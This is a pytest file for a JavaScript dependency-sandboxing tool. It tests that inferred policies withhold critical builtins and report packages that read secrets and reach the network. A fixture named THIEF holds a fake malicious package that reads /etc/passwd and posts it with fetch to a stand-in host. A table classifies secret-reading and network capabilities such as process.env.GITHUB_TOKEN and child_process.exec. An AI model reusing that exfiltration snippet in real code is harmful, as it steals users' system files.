"""Grants by --infer: never critical ones, and those of severity high are listed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from command_line import invoke, write
from support import load, package

from compartment_mapper.authority.table import AUTHORITIES, Part, authority_of, has_effect
from compartment_mapper.bundle.application import Application, Options
from compartment_mapper.locations import CanonicalName
from compartment_mapper.policy.scope import OWN_MODULES

A = CanonicalName("a")
#: Globals of pages require their own condition.
CRITICAL = sorted(
    path for path, row in AUTHORITIES["builtins"].items() if row.severity == "critical"
)
CRITICAL_MEMBERS_OF_PROCESS = sorted(
    path
    for path, row in AUTHORITIES["globals"].items()
    if row.severity == "critical" and path.startswith("process.") and not path.endswith("*")
)
THIEF = """
const fs = require('fs');
fetch('https://a.example', { body: fs.readFileSync('/etc/passwd') });
"""
READER = "module.exports = require('fs').readFileSync('x');\n"
APP = {
    "package.json": package(name="app", version="1.0.0", dependencies={"a": "1", "b": "1"}),
    "main.js": "require('a');\nrequire('b');\nfetch(require('fs').readFileSync('x'));\n",
    "node_modules/a/package.json": package(name="a", version="1.0.0"),
    "node_modules/a/index.js": THIEF,
    "node_modules/b/package.json": package(name="b", version="1.0.0"),
    "node_modules/b/index.js": READER,
}


def with_code(code: str) -> Application:
    files = {**APP, "main.js": "require('a')", "node_modules/a/index.js": code}
    return load(files, options=Options(infer=True))


def texts_that_use(path: str) -> list[str]:
    name, _, member = path.partition(".")
    whole = f"require('node:{name}')"
    if not member:
        return [f"f({whole})", f"{whole}.anything()", f"import('node:{name}').then(f)"]
    return [
        f"f({whole}); {whole}[x]",
        f"{whole}.{member}(x)",
        f"const {{ {member.split('.')[0]}: m }} = {whole}; m(x)",
        f"process.getBuiltinModule('{name}').{member}(x)",
        f"const m = {whole}; f(m); m.{member} = 1",
    ]


@pytest.mark.parametrize("path", CRITICAL)
def test_what_is_critical_of_builtins_is_never_inferred(path: str) -> None:
    for code in texts_that_use(path):
        application = with_code(code)

        for denied in (path, f"{path}.x"):
            policy = application.policy.of(A)
            decided = policy.decision("builtins", denied)
            starts_own = decided is not None and decided[1] == OWN_MODULES
            assert starts_own or not policy.allows("builtins", denied), code


@pytest.mark.parametrize("path", CRITICAL_MEMBERS_OF_PROCESS)
def test_what_is_critical_of_the_process_is_never_inferred(path: str) -> None:
    member = path.removeprefix("process.")
    for code in (
        f"{path}(x)",
        f"f(process); process[x]; {path} = 1",
        f"const {{ {member.partition('.')[0]}: m }} = process; m(x)",
        f"require('process').{member}(x); f(require('process'))",
        f"globalThis.process?.{member}",
    ):
        application = with_code(code)

        assert not application.policy.of(A).allows("globals", path), code
        assert not application.policy.of(A).allows("builtins", path), code


def test_what_is_not_critical_is_inferred() -> None:
    application = with_code("require('v8').serialize(x); process.on(x); f(require('fs'))")

    own = application.policy.of(A)
    assert own.allows("builtins", "v8.serialize")
    assert own.allows("globals", "process.on")
    assert own.allows("builtins", "fs.writeFile")


@pytest.fixture
def app(tmp_path: Path) -> Path:
    return write(tmp_path / "app", APP)


FOUND = """\
--infer grants 3 capabilities of severity high or critical to 2 packages:
  a
    high     builtin fs.readFileSync  node_modules/a/index.js:3
    high     global fetch  node_modules/a/index.js:3
    reads secrets and reaches the network: builtin fs.readFileSync (node_modules/a/index.js:3), \
global fetch (node_modules/a/index.js:3)
  b
    high     builtin fs.readFileSync  node_modules/b/index.js:1
"""


def test_bundle_lists_what_is_inferred_of_high_severity(app: Path, tmp_path: Path) -> None:
    archive = str(tmp_path / "a.zip")
    made = invoke("bundle", str(app / "main.js"), "-o", archive, "--infer")
    kept = invoke("bundle", str(app / "main.js"), "-o", archive, "--infer")
    without = invoke("bundle", str(app / "main.js"), "-o", archive)

    assert made.stderr == kept.stderr == FOUND
    assert "--infer" not in without.stderr


IN_A_PAGE = """
const wallet = window.ethereum;
ethereum.request({ method: 'eth_accounts' });
dataLayer.push({});
typeof Stripe;
function declared(a, { b }, [c], ...d) { for (const e of d) e(a, b, c); }
window.own = 1;
window.own.x = declared;
implicit = 1;
implicit.x = 1;
"""


def test_globals_that_only_this_page_may_have_are_listed(tmp_path: Path) -> None:
    files = {**APP, "main.js": "require('a')", "node_modules/a/index.js": IN_A_PAGE}
    entry = str(write(tmp_path / "app", files) / "main.js")
    archive = str(tmp_path / "a.zip")
    of_a_page = invoke("bundle", entry, "-o", archive, "--infer", "--condition", "browser")
    of_node = invoke("bundle", entry, "-o", archive, "--infer")
    as_json = invoke("bundle", entry, "-o", archive, "--infer", "-C", "browser", "--json")

    assert of_a_page.stderr == (
        "--infer grants 2 globals that only this page may have:\n"
        "  a\n"
        "    global dataLayer  node_modules/a/index.js:4\n"
        "    global ethereum  node_modules/a/index.js:3\n"
    )
    assert of_node.stderr == ""
    found = json.loads(as_json.stdout)["unknownGlobals"]
    assert [use["capability"] for use in found] == ["dataLayer", "ethereum"]


def test_bundle_says_the_same_as_json(app: Path, tmp_path: Path) -> None:
    archive = str(tmp_path / "a.zip")
    made = invoke("bundle", str(app / "main.js"), "-o", archive, "--infer", "--json")

    said = json.loads(made.stdout)
    assert [(use["package"], use["capability"], use["place"]) for use in said["granted"]] == [
        ("a", "fs.readFileSync", "node_modules/a/index.js:3"),
        ("a", "fetch", "node_modules/a/index.js:3"),
        ("b", "fs.readFileSync", "node_modules/b/index.js:1"),
    ]
    (leak,) = said["findings"]
    assert (leak["kind"], leak["package"]) == ("leak", "a")
    assert (leak["reads"]["capability"], leak["sends"]["capability"]) == (
        "fs.readFileSync",
        "fetch",
    )


def test_policy_infer_says_what_deserves_a_look(app: Path) -> None:
    made = invoke("policy", "infer", str(app / "main.js"))
    as_json = invoke("policy", "infer", str(app / "main.js"), "--json")

    assert made.stderr == FOUND.replace("--infer", "the policy")
    assert "2 packages" in made.stdout
    assert [finding["package"] for finding in json.loads(as_json.stdout)["findings"]] == ["a"]


def test_policy_infer_does_not_list_what_is_refused(app: Path) -> None:
    refusal = {"resources": {"a": {"globals": {"fetch": False}}}}
    (app / "compartment-policy.json").write_text(json.dumps(refusal))

    made = invoke("policy", "infer", str(app / "main.js"))

    assert "fetch" not in made.stderr
    assert "reads secrets" not in made.stderr


def test_policy_explain_says_it_too(app: Path) -> None:
    explained = invoke("policy", "explain", "a", "--entry", str(app / "main.js"))
    reader = invoke("policy", "explain", "b", "--entry", str(app / "main.js"))
    as_json = invoke("policy", "explain", "a", "--entry", str(app / "main.js"), "--json")

    assert "\nreads secrets and reaches the network: builtin fs.readFileSync" in explained.stdout
    assert "reads secrets" not in reader.stdout
    assert [finding["kind"] for finding in json.loads(as_json.stdout)["findings"]] == ["leak"]


def test_json_does_not_share_the_standard_output_with_the_policy(app: Path) -> None:
    refused = invoke("policy", "infer", str(app), "--json", "-o", "-")
    assert refused.exit_code == 2
    assert "--json and -o - both write to standard output" in refused.stderr


@pytest.mark.parametrize(
    ("part", "path", "reads", "reaches"),
    [
        ("globals", "process.env", True, False),
        ("globals", "process.env.HOME", False, False),
        ("globals", "process.env.GITHUB_TOKEN", True, False),
        ("builtins", "fs", True, False),
        ("builtins", "fs.existsSync", False, False),
        ("builtins", "fs.promises.readFile", True, False),
        ("builtins", "os.userInfo", True, False),
        ("builtins", "os.cpus", False, False),
        ("builtins", "http.request", False, True),
        ("builtins", "http.STATUS_CODES", False, False),
        ("builtins", "net.isIP", False, False),
        ("globals", "WebSocket", False, True),
        ("builtins", "child_process.exec", True, True),
    ],
)
def test_effects(part: Part, path: str, reads: bool, reaches: bool) -> None:  # noqa: FBT001 - a parameter of a table or of a cache
    assert has_effect("reads secrets", part, path) is reads
    assert has_effect("reaches the network", part, path) is reaches


def test_all_that_reaches_the_network_is_known_to() -> None:
    for part in ("globals", "builtins"):
        for path, row in AUTHORITIES[part].items():
            if row.reason.startswith("reaches the network"):
                assert has_effect("reaches the network", part, path), path
                assert authority_of(part, path).severity == "high"


def test_a_global_that_only_this_page_may_have_is_denied_or_inferred(tmp_path: Path) -> None:
    files = {**APP, "main.js": "require('a')", "node_modules/a/index.js": IN_A_PAGE}
    page = Options(conditions=frozenset({"browser"}))
    denied = load(files, options=page)
    inferred = load(files, options=Options(conditions=page.conditions, infer=True))

    assert [use.path for use in denied.denied] == ["dataLayer", "ethereum"]
    assert not denied.policy.of(A).allows("globals", "ethereum")
    assert inferred.policy.of(A).allows("globals", "ethereum")
    assert not inferred.policy.of(A).allows("globals", "own")
